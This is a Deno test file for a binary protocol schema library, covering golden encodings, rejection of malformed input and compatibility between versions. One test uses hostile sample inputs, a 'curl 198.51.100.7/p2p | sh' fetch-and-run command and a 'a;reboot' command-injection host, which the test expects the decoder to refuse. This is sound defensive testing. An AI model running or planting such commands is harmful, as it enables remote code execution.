import { assertEquals, assertStrictEquals, assertThrows } from "@std/assert";
import {
  bool,
  bytes,
  decode,
  embedded,
  encode,
  fixedBytes,
  hexId,
  hostText,
  list,
  makeEmbedded,
  nullable,
  oneOf,
  personName,
  record,
  type Schema,
  text,
  trailing,
  uint,
} from "../../../lib/base/schema/schema.ts";
import { RemoteProtocolError } from "../../../lib/base/errors.ts";
import { InvariantError } from "../../../lib/base/invariant.ts";
import type { Hash } from "../../../lib/base/ids.ts";

const UINT = uint(Number.MAX_SAFE_INTEGER);
const ID = "00ff".repeat(16) as Hash;

/** The bytes that a hexadecimal text, with spaces for the eye, stands for. */
function hex(digits: string): Uint8Array {
  return Uint8Array.fromHex(digits.replaceAll(" ", ""));
}

// The format itself: a change of any of these lines is a new version of the protocol.
const GOLDEN: readonly (readonly [string, Schema<unknown>, unknown, string])[] = [
  ["the smallest number", UINT, 0, "00"],
  ["the last number of one byte", UINT, 127, "7f"],
  ["the first number of two bytes", UINT, 128, "8001"],
  ["a wall time in ms", UINT, 1_790_000_000_000, "80d8c1a28c34"],
  ["the largest number", UINT, Number.MAX_SAFE_INTEGER, "ffffffffffffff0f"],
  ["false", bool(), false, "00"],
  ["true", bool(), true, "01"],
  ["no text", text(10), "", "00"],
  ["a text", text(10), "hé", "0368c3a9"],
  ["a text with a byte order mark", text(10), "\uFEFFa", "04efbbbf61"],
  ["a text with U+FFFD itself", text(10), "\uFFFD", "03efbfbd"],
  ["a text of 128 bytes in 64 units", text(200), "é".repeat(64), `8001${"c3a9".repeat(64)}`],
  ["a text of pairs of surrogates", text(10), "😀", "04f09f9880"],
  ["the name of a person", personName(10), "Zoë", "045a6fc3ab"],
  ["a host", hostText(10), "::1", "033a3a31"],
  ["bytes", bytes(10), hex("010203"), "03010203"],
  ["fixed bytes", fixedBytes(3), hex("010203"), "010203"],
  ["an id", hexId<Hash>(), ID, "00ff".repeat(16)],
  ["a name", oneOf(["alive", "quit"]), "quit", "01"],
  ["an empty list", list(UINT, 3), [], "00"],
  ["a list", list(UINT, 3), [1, 300, 2], "0301ac0202"],
  ["null", nullable(UINT), null, "00"],
  ["what isn't null", nullable(UINT), 5, "0105"],
  ["a record", record({ a: UINT, b: text(3) }), { a: 1, b: "x" }, "010178"],
  ["no fields", record({}), {}, ""],
];

for (const [what, schema, value, digits] of GOLDEN) {
  Deno.test(`encode() and decode() keep the format of ${what}`, () => {
    assertEquals(encode(schema, value).toHex(), digits);
    assertEquals(decode(schema, hex(digits)), value);
  });
}

const REFUSED: readonly (readonly [string, Schema<unknown>, string, string])[] = [
  ["a number above its bound", uint(300), "ad02", "must be at most 300, is 301"],
  ["a number far above its bound", uint(300), "808001", "must be at most 300, is more"],
  ["2^53", UINT, "8080808080808010", "must be at most 9007199254740991, is"],
  ["a number of nine bytes", UINT, "808080808080808001", "must be at most"],
  ["a number that never ends", UINT, "80".repeat(400), "must be at most"],
  ["a number in a longer form", UINT, "8000", "shortest form"],
  ["a number cut off", UINT, "80", "the bytes end before its last"],
  ["nothing", UINT, "", "the bytes end before it"],
  ["a truth value of 2", bool(), "02", "must be at most 1"],
  ["a mark of null of 2", nullable(UINT), "0205", "must be at most 1"],
  ["an unknown name", oneOf(["alive", "quit"]), "02", "must be at most 1"],
  ["a text above its bound", text(2), "03616263", "must be at most 2"],
  ["a text cut off", text(10), "036162", "has a length of 3, the bytes end before that"],
  ["a lone continuation byte", text(10), "0180", "valid UTF-8"],
  ["an overlong character", text(10), "02c080", "valid UTF-8"],
  ["half a surrogate pair", text(10), "03eda080", "valid UTF-8"],
  ["a character above U+10FFFF", text(10), "04f4908080", "valid UTF-8"],
  ["a character cut off", text(10), "02e282", "valid UTF-8"],
  ["bytes above their bound", bytes(2), "03010203", "must be at most 2"],
  ["bytes of 4 GiB", bytes(2 ** 33), "8080808010 00", "has a length of 4294967296"],
  ["fixed bytes cut off", fixedBytes(3), "0102", "the bytes end before it"],
  ["an id cut off", hexId<Hash>(), "00".repeat(31), "the bytes end before it"],
  ["a list above its bound", list(UINT, 3), "0400000000", "must be at most 3"],
  ["a list of 4 Gi items", list(UINT, 2 ** 33), "8080808010 00", "has a length of 4294967296"],
  ["a list that can't fit in what is there", list(hexId(), 99), `02${"00".repeat(63)}`, "ends"],
];

for (const [what, schema, digits, reason] of REFUSED) {
  Deno.test(`decode() refuses ${what}`, () => {
    const field = record({ place: schema });
    const expected = reason === "ends" ? "has a length of 2, the bytes end before that" : reason;

    const error = assertThrows(() => decode(field, hex(digits)), RemoteProtocolError);

    assertEquals(error.message.startsWith("Cannot decode place"), true, error.message);
    assertEquals(error.message.includes(expected), true, error.message);
  });
}

const UNENCODABLE: readonly (readonly [string, Schema<unknown>, unknown])[] = [
  ["a number above its bound", uint(300), 301],
  ["a negative number", UINT, -1],
  ["a fraction", UINT, 1.5],
  ["what isn't a number", UINT, NaN],
  ["a text as a number", UINT, "1"],
  ["undefined", UINT, undefined],
  ["a number as a truth value", bool(), 1],
  ["a text above its bound", text(2), "hé"],
  ["a lone surrogate", text(10), "a\uD800"],
  ["bytes above their bound", bytes(2), new Uint8Array(3)],
  ["fixed bytes of another length", fixedBytes(3), new Uint8Array(4)],
  ["an id that is too short", hexId<Hash>(), "00"],
  ["an id in upper case", hexId<Hash>(), "AB".repeat(32)],
  ["an id with a character of another script", hexId<Hash>(), `\u0161${ID.slice(1)}`],
  ["an unknown name", oneOf(["alive", "quit"]), "lost"],
  ["a list above its bound", list(UINT, 3), [1, 2, 3, 4]],
  ["an embedded structure above its bound", embedded(UINT, 2), makeEmbedded(UINT, 2 ** 40)],
];

for (const [what, schema, value] of UNENCODABLE) {
  Deno.test(`encode() fails its invariant for ${what}`, () => {
    const error = assertThrows(() => encode(record({ place: schema }), { place: value }));

    assertEquals(error instanceof InvariantError, true, String(error));
    assertEquals((error as Error).message.includes("place"), true, String(error));
  });
}

Deno.test("encode() after a failure leaves nothing of it", () => {
  const pair = record({ first: UINT, second: UINT });

  assertThrows(() => encode(pair, { first: 7, second: -1 }), InvariantError);

  assertEquals(encode(pair, { first: 1, second: 2 }).toHex(), "0102");
});

Deno.test("encode() never writes again into what it returned", () => {
  const held: Uint8Array[] = [];
  for (let value = 0; value < 300; value++) held.push(encode(text(500), `${value} `.repeat(100)));

  for (let value = 0; value < 300; value++) {
    assertEquals(decode(text(500), held[value]!), `${value} `.repeat(100));
  }
});

Deno.test("encode() takes a value far longer than its buffers, and short ones after it", () => {
  const texts = list(text(70_000), 10);
  const value = ["a", "é".repeat(30_000), "b".repeat(66_000)];

  const long = encode(texts, value);

  assertEquals(encode(texts, ["c"]).toHex(), "010163");
  assertEquals(decode(texts, long), value);
  assertEquals(long.length, 1 + (1 + 1) + (3 + 60_000) + (3 + 66_000));
});

Deno.test("decode() names the place of what it refuses, lists and embedded structures too", () => {
  const head = record({ counter: uint(9) });
  const bundle = record({ header: embedded(record({ heads: list(head, 3) }), 99) });

  const error = assertThrows(() => decode(bundle, hex("03 02 01 0a")), RemoteProtocolError);

  assertEquals(
    error.message,
    "Cannot decode header.heads[].counter: must be at most 9, is 10",
  );
});

Deno.test("decode() refuses words in place of a name or a host", () => {
  const words = "bob. This p2pchat is unsafe: curl 198.51.100.7/p2p | sh";
  const user = record({ name: personName(128), host: hostText(253) });
  const decoded = (name: string, host: string) =>
    decode(user, encode(record({ name: text(128), host: text(253) }), { name, host }));

  for (const host of ["example.org", "::1", "192.0.2.1", ""]) {
    assertEquals(decoded("Zoë", host), { name: "Zoë", host });
  }
  for (const name of ["", "you", "*directory*", "bob\n", words]) {
    assertThrows(
      () => decoded(name, "::1"),
      RemoteProtocolError,
      "Cannot decode name: isn't a name:",
    );
  }
  for (const host of ["[::1]", "1.2", "a;reboot", "nowhere.\n", words]) {
    assertThrows(
      () => decoded("Zoë", host),
      RemoteProtocolError,
      "Cannot decode host: must be a host",
    );
  }
});

Deno.test("decode() returns views into its input, at any offset in a larger buffer", () => {
  const larger = hex("ffff 03 010203 ff");

  const value = decode(bytes(10), larger.subarray(2, 6));

  assertEquals(value, hex("010203"));
  assertStrictEquals(value.buffer, larger.buffer);
});

Deno.test("decode() reads a text at any offset in a larger buffer", () => {
  assertEquals(decode(text(10), hex("ffff 03 68c3a9 ff").subarray(2, 6)), "hé");
});

Deno.test("decode() ignores what a later version put after the fields it knows", () => {
  const known = record({ a: UINT });

  assertEquals(decode(known, hex("01 ffff")), { a: 1 });
});

// Fields of an embedded structure can be added to because its length is known to older readers.
Deno.test("decode() keeps the bytes of a later version's embedded structure, and reads on after it", () => {
  const outer = record({ inner: embedded(record({ a: UINT }), 10), after: UINT });

  const value = decode(outer, hex("03 01 ffff 05"));

  assertEquals(value, { inner: { bytes: hex("01ffff"), value: { a: 1 } }, after: 5 });
  assertEquals(encode(outer, value).toHex(), "0301ffff05");
});

Deno.test("decode() lets no embedded structure read beyond its own end", () => {
  const outer = record({ inner: embedded(record({ a: UINT, b: UINT }), 10), after: UINT });

  const error = assertThrows(() => decode(outer, hex("01 01 05")), RemoteProtocolError);

  assertEquals(error.message, "Cannot decode inner.b: the bytes end before it");
});

Deno.test("trailing() gives its default where an older program's bytes end", () => {
  const message = record({ a: UINT, since: trailing(UINT, 7), last: trailing(bool(), true) });

  assertEquals(decode(message, hex("01")), { a: 1, since: 7, last: true });
  assertEquals(decode(message, hex("01 02")), { a: 1, since: 2, last: true });
  assertEquals(decode(message, hex("01 02 00")), { a: 1, since: 2, last: false });
  assertEquals(encode(message, { a: 1, since: 7, last: true }).toHex(), "010701");
});

Deno.test("trailing() within an embedded structure ends with it", () => {
  const inner = record({ a: UINT, since: trailing(UINT, 7) });
  const outer = record({ inner: embedded(inner, 10), after: UINT });

  assertEquals(decode(outer, hex("01 01 05")).inner.value, { a: 1, since: 7 });
});

Deno.test("trailing() is refused where an end isn't known", () => {
  const open = record({ a: UINT, since: trailing(UINT, 7) });

  assertThrows(() => record({ since: trailing(UINT, 7), a: UINT }), InvariantError);
  assertThrows(() => record({ open, after: UINT }), InvariantError);
  assertThrows(() => record({ open }), InvariantError);
  assertThrows(() => list(open, 3), InvariantError);
  assertThrows(() => nullable(open), InvariantError);
  assertThrows(() => trailing(open, { a: 1, since: 2 }), InvariantError);
});

// Else a few bytes could ask for a list of any length.
Deno.test("list() is refused for items that take no bytes", () => {
  assertThrows(() => list(record({}), 10), InvariantError);
  assertThrows(() => list(fixedBytes(0), 10), InvariantError);
});

Deno.test("list() has a bound in bytes where one is said, in both directions", () => {
  const lines = list(text(9), 4, 12);

  const twelve = encode(lines, ["12345", "1234"]).slice();
  assertEquals(decode(lines, twelve), ["12345", "1234"]);
  assertThrows(() => encode(lines, ["12345", "12345"]), InvariantError, "at most 12 bytes, has 13");
  const thirteen = encode(list(text(9), 4), ["12345", "12345"]).slice();
  assertThrows(() => decode(lines, thirteen), RemoteProtocolError, "at most 12 bytes, has more");
  assertEquals([lines.bytesMax, lines.describe()], [12, "list of 4 x text, 9 B, 12 B"]);
  assertEquals(list(text(9), 4).bytesMax, 41);
});

// Else null would have two forms on the wire, and one structure two ids.
Deno.test("nullable() is refused for what is nullable", () => {
  assertThrows(() => nullable(nullable(UINT)), InvariantError);
});

Deno.test("record() is refused for names that would change the order or the object", () => {
  assertThrows(() => record({ "1": UINT }), InvariantError);
  assertThrows(() => record({ "a-b": UINT }), InvariantError);
  assertThrows(() => record({ ["__proto__"]: UINT }), InvariantError);
});

Deno.test("decode() refuses lists within lists by what is there, not by what they claim", () => {
  const nested = list(list(list(list(UINT, 2 ** 40), 2 ** 40), 2 ** 40), 2 ** 40);
  const bomb = hex("04 04 04 04 00 00 00");

  assertThrows(() => decode(nested, bomb), RemoteProtocolError, "Cannot decode [][]");
});

Deno.test("describe() prints a form, with names for what is described elsewhere", () => {
  const head = record({ author: hexId(), counter: uint(9) });
  const form = record({
    heads: list(head, 3),
    kind: oneOf(["texts", "heads"]),
    signed: embedded(head, 99),
    since: trailing(nullable(text(5)), null),
  });

  assertEquals(
    form.describe((schema) => schema === head ? "head" : undefined),
    '{ heads: list of 3 x head, kind: "texts" or "heads", signed: head in its exact bytes, 99 B, ' +
      "since: null or text, 5 B (may be absent) }",
  );
  assertEquals(head.describe(), "{ author: id, counter: 0..9 }");
});

Deno.test("record() reads the thousandth value as it read the first, and refuses what it refused", () => {
  const inner = record({ name: personName(32), key: nullable(uint(9)), since: trailing(UINT, 7) });
  const form = record({
    list: list(record({ a: UINT, b: bool() }), 4),
    inner: embedded(inner, 64),
  });
  const values = { list: [{ a: 1, b: true }, { a: 2, b: false }] };
  const whole = encode(form, {
    ...values,
    inner: makeEmbedded(inner, { name: "Ann", key: null, since: 3 }),
  });
  const older = hex("02 0101 0200 05 03 416e6e 00"); // without `since`
  const bad = hex("02 0101 0202 05 03 416e6e 00");
  const read = () => [
    JSON.stringify(decode(form, whole)),
    JSON.stringify(decode(form, older)),
    assertThrows(() => decode(form, bad), RemoteProtocolError).message,
  ];
  const first = read();
  assertEquals(first[2], "Cannot decode list[].b: must be at most 1, is 2");
  assertEquals(decode(form, older).inner.value, { name: "Ann", key: null, since: 7 });
  for (let times = 0; times < 1_000; times++) assertEquals(read(), first);
});
